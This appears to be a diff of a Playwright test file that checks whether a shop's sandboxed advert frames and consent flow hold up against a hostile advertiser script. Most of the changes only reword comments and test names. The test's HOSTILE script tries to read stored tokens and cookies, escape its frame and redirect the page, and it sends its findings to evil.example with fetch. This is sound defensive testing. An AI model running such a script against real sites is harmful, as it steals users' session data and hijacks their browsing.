@@ -5,17 +5,17 @@ import { expect, test } from './testing/shop.ts'
 const TOKEN = 'the-token-of-a-customer'
 
 /**
- * What a hostile advertiser would try: read what the browser keeps for the shop, reach the page around, and get out
- * of the frame by a popup. Everything it learns is called home, so that a test sees what got out.
+ * What a hostile advertiser would try: read the shop's browser storage, reach the surrounding page and leave the frame
+ * through a popup. It sends what it learns to its own server, so that the test sees what leaked.
  */
 const HOSTILE = `(() => {
-  const tell = (what) => {
+  const report = (what) => {
     document.body?.append('[' + what + ']')
     fetch('https://evil.example/?' + encodeURIComponent(what)).catch(() => undefined)
   }
   const where = top === self ? 'top' : 'frame'
   const attempt = (name, act) => {
-    try { tell(where + ' ' + name + ' ' + act()) } catch (error) { tell(where + ' ' + name + ' refused') }
+    try { report(where + ' ' + name + ' ' + act()) } catch (error) { report(where + ' ' + name + ' refused') }
   }
   attempt('origin', () => self.origin)
   attempt('storage', () => localStorage.getItem('token'))
@@ -38,18 +38,18 @@ const HOSTILE = `(() => {
       attempt('popup of the advertiser', () => Boolean(open('https://evil.example/landing')))
       attempt('top navigation by click', () => { top.location.href = 'https://evil.example/gone' })
     })
-    addEventListener('message', ({ data }) => tell('message ' + data))
+    addEventListener('message', ({ data }) => report('message ' + data))
   }
   window.adsbygoogle = { push() {} }
 })()`
 
-/** The advertiser's page in its own window: it may be there, but not lead the shop's page away. */
+/** The advertiser's page in its own window: it may open there, but must not redirect the shop's page. */
 const LANDING = `<script>
 for (const target of ['opener', 'opener.top', 'opener.parent'])
   try { new Function('return ' + target)().location = 'https://evil.example/gone' } catch {}
 </script>evil`
 
-/** Plays the hostile script wherever the advertiser's would be loaded; returns what it called home. */
+/** Serves the hostile script in place of the advertiser's; returns what it sent home. */
 async function playHostile(context: BrowserContext): Promise<string[]> {
   const told: string[] = []
   await context.route('https://pagead2.googlesyndication.com/**', (route) =>
@@ -70,14 +70,14 @@ async function playHostile(context: BrowserContext): Promise<string[]> {
   return told
 }
 
-/** Somebody who is signed in and has accepted cookies. */
+/** A signed-in visitor who has accepted cookies. */
 async function signedIn(page: Page, url: string): Promise<void> {
   await page.goto(`${url}/robots.txt`)
   await page.evaluate((token) => localStorage.setItem('token', token), TOKEN)
   await page.evaluate(acceptCookies, 0)
 }
 
-/** A provider of consent as the framework describes it: its question is on the page until `answer` is called. */
+/** A consent provider that follows the framework: it shows its question until `answer` is called. */
 const PROVIDER = `(() => {
   const listeners = new Map()
   let state = { eventStatus: 'cmpuishown', gdprApplies: true }
@@ -108,7 +108,7 @@ test.describe('with a certified consent provider', () => {
     },
   })
 
-  test('no advert is asked for before its string allows it', async ({ page, context, ownShop: shop }) => {
+  test('requests no advert before consent allows it', async ({ page, context, ownShop: shop }) => {
     const asked: string[] = []
     await context.route('https://consent.example/**', (route) => {
       asked.push(route.request().url())
@@ -121,14 +121,14 @@ test.describe('with a certified consent provider', () => {
     const adverts = page.locator('iframe[src*="/ads/slot"]')
     await expect(page.getByRole('button', { name: 'Accepter' })).toBeVisible()
     expect(asked).toEqual([])
-    // Where no advert can stand, its script is not wanted either.
+    // Without a place for adverts, their script is not loaded either.
     await page.setViewportSize({ width: 1200, height: 900 })
     await page.getByRole('button', { name: 'Accepter' }).click()
     await expect(page.getByRole('button', { name: 'Accepter' })).toHaveCount(0)
     await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))
     expect(asked).toEqual([])
     await page.setViewportSize({ width: 1680, height: 900 })
-    // Asked from outside: the page's policy lets nothing be evaluated in it again and again.
+    // Evaluated from outside, since the page's policy forbids evaluation inside it.
     await expect.poll(() => page.evaluate(() => 'answer' in window)).toBe(true)
     expect(asked).toHaveLength(1)
     await expect(adverts).toHaveCount(0)
@@ -142,7 +142,7 @@ test.describe('with a certified consent provider', () => {
 test.describe('a hostile advert', () => {
   test.use({ viewport: { width: 1680, height: 900 }, settings: { ADSENSE_CLIENT: 'ca-pub-1234567890' } })
 
-  test('gets neither out of its frame nor at what the browser keeps for the shop, and runs nowhere else', async ({
+  test('cannot leave its frame, read the shop’s storage or run anywhere else', async ({
     page,
     context,
     ownShop: shop,
@@ -160,13 +160,13 @@ test.describe('a hostile advert', () => {
     expect(page.url()).toBe(`${shop.url}/guide-achat`)
     for (const attempt of ['storage', 'cookie', 'database', 'parent', 'top navigation'])
       expect(told).toContain(`frame ${attempt} refused`)
-    // A document of an advert that stands in no frame runs nothing at all.
+    // An advert's document outside a frame runs nothing.
     expect(told.filter((line) => line.startsWith('top '))).toEqual([])
     expect(told.join()).not.toContain(TOKEN)
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
     for (const popup of popups) expect(await popup.locator('body').innerText()).not.toContain('[')
 
-    // One that a person is linked to shows nothing and runs nothing.
+    // Nor does one that is opened through a link.
     const answer = await page.goto(`${shop.url}/ads/slot?place=left`)
     await page.waitForLoadState('networkidle')
     expect(answer?.headers()['content-security-policy']).toMatch(/(^|; )sandbox(;|$)/)
